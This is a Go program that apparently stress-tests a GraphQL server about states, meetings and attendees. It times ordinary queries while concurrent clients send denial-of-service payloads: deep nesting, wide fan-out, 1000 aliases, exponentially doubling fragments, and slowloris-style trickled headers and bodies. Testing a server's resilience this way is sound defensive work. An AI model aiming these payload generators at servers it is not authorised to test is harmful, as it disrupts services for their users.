package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"time"
)

// question is what the n-th page of a front end asks, each another.
func question(n int) string {
	return fmt.Sprintf(`query Page { state(code: "%c%c") { id name meetingsAttended(first: %d) { totalCount edges { capacity node { id name startDate { iso }
  attendees(first: 5) { totalCount edges { capacity node { __typename id name } } } } } } } }`, 'A'+n%193/26, 'A'+n%193%26, 20+n/193%20)
}

// pause is how long the honest client looks at an answer.
const pause = 5 * time.Millisecond

// honest asks so many times, and tells how long each answer took.
func honest(ctx context.Context, target string, requests int) (times, error) {
	t := times{faults: map[string]int{}}
	client := &http.Client{Timeout: 30 * time.Second}
	for n := range requests {
		start := time.Now()
		text, fault := post(ctx, client, target, question(n))
		took := time.Since(start)
		if ctx.Err() != nil {
			return t, ctx.Err()
		}
		if fault == "" && (!strings.Contains(text, `"totalCount"`) || strings.Contains(text, `"errors"`)) {
			fault = fmt.Sprintf("answer %.100s", text)
		}
		if fault != "" {
			t.faults[fault]++
		} else {
			t.sorted = append(t.sorted, took)
		}
		wait(ctx, pause)
	}
	slices.Sort(t.sorted)
	return t, nil
}

// wait returns when the time is over or the context ends.
func wait(ctx context.Context, d time.Duration) {
	select {
	case <-time.After(d):
	case <-ctx.Done():
	}
}

// post sends a query, and tells what went wrong, if anything did.
func post(ctx context.Context, client *http.Client, target, query string) (text, fault string) {
	body, err := json.Marshal(map[string]string{"query": query})
	if err != nil {
		return "", err.Error()
	}
	r, err := http.NewRequestWithContext(ctx, http.MethodPost, target, bytes.NewReader(body))
	if err != nil {
		return "", err.Error()
	}
	r.Header.Set("Content-Type", "application/json")
	answer, err := client.Do(r)
	if err != nil {
		return "", err.Error()
	}
	defer answer.Body.Close()
	read, err := io.ReadAll(answer.Body)
	if err != nil {
		return "", err.Error()
	}
	if answer.StatusCode != http.StatusOK {
		return string(read), answer.Status
	}
	return string(read), ""
}

// attack lets hostile clients of all kinds at the server until the context ends,
// and prints when each has sent something.
func attack(ctx context.Context, target string, clients int) error {
	at, err := url.Parse(target)
	if err != nil {
		return err
	}
	kinds := []func(begun func()){
		func(begun func()) { asks(ctx, target, begun, deep(100)) },
		func(begun func()) { asks(ctx, target, begun, wide(100, 20)) },
		func(begun func()) { trickles(ctx, at, begun, "POST /graphql HTTP/1.1\r\nHost: x\r\nX-Slow: ") },
		func(begun func()) { asks(ctx, target, begun, deep(8)) },
		func(begun func()) { asks(ctx, target, begun, aliases(1000)) },
		func(begun func()) { asks(ctx, target, begun, wide(100, 100)) },
		func(begun func()) {
			trickles(ctx, at, begun, "POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{")
		},
		func(begun func()) { asks(ctx, target, begun, doubled(40)) },
	}
	var all, begun sync.WaitGroup
	begun.Add(clients)
	for n := range clients {
		all.Go(func() { kinds[n%len(kinds)](sync.OnceFunc(begun.Done)) })
	}
	all.Go(func() {
		begun.Wait()
		fmt.Println(atIt)
	})
	all.Wait()
	return nil
}

// asks sends a query as soon as the last one was answered.
func asks(ctx context.Context, target string, begun func(), query string) {
	defer begun()
	client := &http.Client{Timeout: 30 * time.Second}
	for n := 0; ctx.Err() == nil; n++ { // no text twice, so that nothing kept helps
		_, _ = post(ctx, client, target, fmt.Sprintf("%s # %d", query, n))
		begun()
	}
}

// drip is the time between two bytes that trickle.
const drip = 100 * time.Millisecond

// trickles keeps connections open on which a byte comes now and then.
func trickles(ctx context.Context, at *url.URL, begun func(), head string) {
	defer begun()
	for ctx.Err() == nil {
		connection, err := new(net.Dialer).DialContext(ctx, "tcp", at.Host)
		if err != nil {
			wait(ctx, drip)
			continue
		}
		_, err = io.WriteString(connection, head)
		begun()
		for err == nil && ctx.Err() == nil {
			wait(ctx, drip)
			_, err = io.WriteString(connection, "a")
		}
		_ = connection.Close()
	}
}

// deep asks for meetings of attendees of meetings, and so on.
func deep(levels int) string {
	return `{ state(code: "AA") { ` + strings.Repeat(`meetingsAttended(first: 1) { nodes { attendees(first: 1) { nodes { ... on State { `, levels/2) +
		"name" + strings.Repeat(" } } } } }", levels/2) + ` } }`
}

// wide asks for so many attendees of each of so many meetings.
func wide(meetings, attendees int) string {
	return fmt.Sprintf(`{ meetings(first: %d) { nodes { id name attendees(first: %d) { edges { capacity confidence node { id name } evidence(first: 1) { quote } } } } } }`, meetings, attendees)
}

// aliases asks for one list under so many names.
func aliases(n int) string {
	var q strings.Builder
	for i := range n {
		fmt.Fprintf(&q, "a%d: meetings(first: 1) { totalCount } ", i)
	}
	return "{ " + q.String() + "}"
}

// doubled spreads fragments that spread the next one twice.
func doubled(n int) string {
	var q strings.Builder
	q.WriteString("{ ...F0 } ")
	for i := range n {
		fmt.Fprintf(&q, "fragment F%d on Query { ...F%d ...F%d } ", i, i+1, i+1)
	}
	fmt.Fprintf(&q, "fragment F%d on Query { __typename }", n)
	return q.String()
}
